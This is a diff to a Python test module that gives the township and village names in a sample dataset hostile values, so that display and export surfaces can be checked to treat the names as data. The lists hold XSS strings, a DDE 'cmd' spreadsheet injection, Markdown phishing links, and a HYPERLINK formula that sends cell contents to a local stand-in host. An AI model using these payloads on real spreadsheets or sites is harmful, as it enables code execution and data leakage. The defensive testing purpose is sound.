@@ -2,7 +2,8 @@
 
     .venv/bin/python -m tests.hostile 示范县导出/ 恶意名称县/     # copy a folder, renaming some regions
 
-Townships and villages get names that are spreadsheet formulas, Markdown links and images, and HTML, so
+Townships and villages get names that are spreadsheet formulas, Markdown links and images, HTML, TeX
+between dollars (matplotlib's mathtext, plotly's MathJax) and bare URLs (GFM's and linkify's autolinks), so
 every surface that shows or exports a name can be checked to treat it as data.
 """
 
@@ -23,6 +24,12 @@ TOWNSHIP_NAMES = [
     "<img src=x onerror=alert(1)>",
     "-2+3镇",
     "+cmd|' /C calc'!A0",
+    "$x^2$",
+    "$\\frac{1}{0}$",
+    "http://evil.example/a.png",
+    "www.evil.example",
+    "![图](http://127.0.0.1:9/town.png)",
+    "$\\undefinedcommand{x}$镇",
 ]
 VILLAGE_NAMES = [
     '=HYPERLINK("http://127.0.0.1:9/v?"&C6,"村")',
@@ -31,6 +38,8 @@ VILLAGE_NAMES = [
     "[东村](http://127.0.0.1:9/phish)",
     "![](http://127.0.0.1:9/village.png)",
     "<b onmouseover=alert(1)>村</b>",
+    "$x^2$村",
+    "www.evil.example村",
 ]
 ENCODING = "gbk"  # the generator writes 行政区划 as the federations' systems do
 
